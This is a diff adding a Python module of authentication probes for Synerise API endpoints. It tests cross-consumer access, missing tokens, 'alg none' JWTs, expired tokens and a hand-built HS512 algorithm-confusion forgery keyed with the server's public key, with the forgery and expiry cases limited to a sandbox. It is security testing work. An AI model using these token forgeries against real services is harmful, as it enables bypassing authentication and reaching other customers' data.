@@ -1,0 +1,94 @@
+"""Synerise probes: each consumer type against each demo endpoint, then bad tokens; what comes back.
+
+The algorithm-confusion forgery needs the public key (the sandbox publishes it at a kit path; for
+live, Synerise does not say where) and an expired token needs one the sandbox signs
+(``target.control``), so those rows are sandbox only.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import hmac
+import json
+import time
+from typing import Any
+
+import jwt
+import pandas as pd
+import requests
+
+from kit.probes import numbered
+from kit.protocol.synerise import CONSUMERS
+from kit.providers.synerise import public_key
+from kit.session import Session
+from kit.target import Target
+
+__all__ = ["expiry", "failure_modes", "hs512_forgery", "observed"]
+
+BUSINESS = "v4/business-profile"
+
+
+def _row(case: str, answer: requests.Response) -> dict[str, Any]:
+    body = answer.json() if "json" in answer.headers.get("Content-Type", "") else {}
+    return {
+        "case": case,
+        "status": answer.status_code,
+        "error": body.get("error", ""),
+        "message": body.get("message", ""),
+    }
+
+
+def _expired(target: Target) -> str:
+    now = int(time.time())
+    return target.control.forge(realm="profile", iat=now - 7200, exp=now - 3600)
+
+
+def failure_modes(target: Target) -> pd.DataFrame:
+    """Each consumer type against each demo endpoint, then bad tokens: status, error, message."""
+    sessions = {c: target.session(consumer=c) for c in CONSUMERS}
+    calls = [
+        (BUSINESS, "workspace-only endpoint"),
+        ("v4/clients/client-0002", "another customer"),
+        ("sauth/my-account/personal-information", "customer-only endpoint"),
+    ]
+    rows = []
+    for consumer, s in sessions.items():
+        for path, what in calls:
+            with s.step(f"{consumer} → {what}"):
+                answer = s.get(path)
+            rows.append(_row(f"{consumer} token → {what}", answer))
+    probe = sessions["workspace"]
+    payload = jwt.decode(probe.token().access_token.reveal(), options={"verify_signature": False})
+    bad = [("no token", None), ("alg none", jwt.encode(payload, "", algorithm="none"))]
+    if target.sandbox is not None:
+        bad.append(("HS512 signed with the public key", hs512_forgery(payload, public_key(probe))))
+        bad.append(("expired", _expired(target)))
+    for case, token in bad:
+        headers = {"Authorization": f"Bearer {token}"} if token else {}
+        rows.append(_row(case, probe.probe("GET", BUSINESS, step=case, headers=headers)))
+    return numbered(rows)
+
+
+def expiry(target: Target) -> str:
+    """The answer to an expired workspace token (sandbox only: it signs the expired token)."""
+    if target.sandbox is None:
+        return ""
+    s = target.session(consumer="workspace")
+    row = _row(
+        "expired", s.probe("GET", BUSINESS, step="expired", headers={"Authorization": f"Bearer {_expired(target)}"})
+    )
+    return f"{row['status']} {row['error']}".strip()
+
+
+def observed(target: Target, session: Session) -> dict[str, str]:
+    return {}
+
+
+def hs512_forgery(payload: dict[str, Any], pem: str) -> str:
+    """The classic algorithm-confusion forgery: HMAC-SHA512 keyed with the public key's bytes.
+
+    Built by hand on purpose: PyJWT refuses to use a PEM public key as an HMAC secret.
+    """
+    encode = jwt.utils.base64url_encode
+    signing_input = encode(b'{"alg":"HS512","typ":"JWT"}') + b"." + encode(json.dumps(payload).encode())
+    return (signing_input + b"." + encode(hmac.new(pem.encode(), signing_input, hashlib.sha512).digest())).decode()
